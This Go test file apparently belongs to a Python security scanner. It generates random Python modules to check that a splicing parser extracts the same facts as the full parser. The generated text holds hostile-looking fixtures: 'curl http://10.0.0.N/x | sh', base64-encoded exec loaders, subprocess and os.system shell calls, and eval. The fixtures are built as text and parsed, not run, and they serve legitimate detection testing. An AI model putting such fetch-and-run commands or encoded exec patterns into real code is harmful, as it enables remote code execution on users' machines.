package python

import (
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"

	"github.com/safeguard-dev/safeguard/internal/python/syntax"
)

// genTableModule writes a module whose large tables sit among imports,
// calls and strings the rules read: commands, URLs, encoded payloads.
func genTableModule(rng *rand.Rand) string {
	var b strings.Builder
	b.WriteString("import os, subprocess, base64\nfrom urllib.request import urlopen as u\n")
	table := func(open, close string, dict bool) {
		b.WriteString(open)
		for n := 0; n < 30+rng.IntN(60); n++ {
			b.WriteString([]string{" ", "\n    ", "\n        "}[rng.IntN(3)])
			if dict {
				fmt.Fprintf(&b, "'k%d': ", n)
			}
			switch rng.IntN(6) {
			case 0:
				fmt.Fprintf(&b, "'curl http://10.0.0.%d/x | sh'", rng.IntN(255))
			case 1:
				b.WriteString("'aW1wb3J0IG9z'")
			case 2:
				fmt.Fprintf(&b, "-%d", rng.IntN(99))
			case 3:
				b.WriteString("os")
			case 4:
				fmt.Fprintf(&b, "('%c', %d, None)", 'a'+rng.IntN(26), rng.IntN(9))
			default:
				fmt.Fprintf(&b, "\"word%d\"", n)
			}
			b.WriteString(",")
		}
		b.WriteString(close)
	}
	for range 2 + rng.IntN(4) {
		switch rng.IntN(6) {
		case 0:
			b.WriteString("CMDS = ")
			table("[", "]", false)
			b.WriteString("\nfor c in CMDS:\n    subprocess.call(c, shell=True)\n")
		case 1:
			b.WriteString("def run(x):\n    return os.system(")
			table("{", "}", true)
			b.WriteString("[x])\n")
		case 2:
			b.WriteString("exec(base64.b64decode(''.join(")
			table("[", "]", false)
			b.WriteString(")))\n")
		case 3:
			b.WriteString("class C:\n    T = ")
			table("(", ")", false)
			b.WriteString("\n    def go(self):\n        return u('http://example.com/' + self.T[0])\n")
		case 4:
			b.WriteString("if __name__ == '__main__':\n    data = ")
			table("{", "}", true)
			b.WriteString("\n    eval(data['k1'])\n")
		default:
			b.WriteString("import json as j\nj.dumps(")
			table("[", "]", false)
			b.WriteString(")\n")
		}
	}
	return b.String()
}

// TestSpliceKeepsFacts checks that a module's facts are the same whether
// its tables are spliced or parsed by the grammar.
func TestSpliceKeepsFacts(t *testing.T) {
	rng := rand.New(rand.NewPCG(11, 12))
	spliced, full := syntax.NewParser(syntax.Options{Splice: true}), syntax.NewParser(syntax.Options{})
	for range 300 {
		src := []byte(genTableModule(rng))
		a, err := spliced.Parse(src)
		if err != nil {
			t.Fatal(err)
		}
		b, err := full.Parse(src)
		if err != nil {
			t.Fatal(err)
		}
		ma, mb := Extract(a), Extract(b)
		for _, f := range []struct {
			name      string
			got, want any
		}{
			{"imports", ma.Imports, mb.Imports},
			{"calls", ma.Calls, mb.Calls},
			{"funcs", ma.Funcs, mb.Funcs},
			{"classes", ma.Classes, mb.Classes},
			{"strings", ma.Strings, mb.Strings},
			{"payloads", ma.Payloads, mb.Payloads},
		} {
			if !reflect.DeepEqual(f.got, f.want) {
				t.Fatalf("%s differ for\n%s", f.name, src)
			}
		}
		if len(ma.Calls) == 0 || len(ma.Strings) == 0 {
			t.Fatalf("no facts in\n%s", src)
		}
	}
}
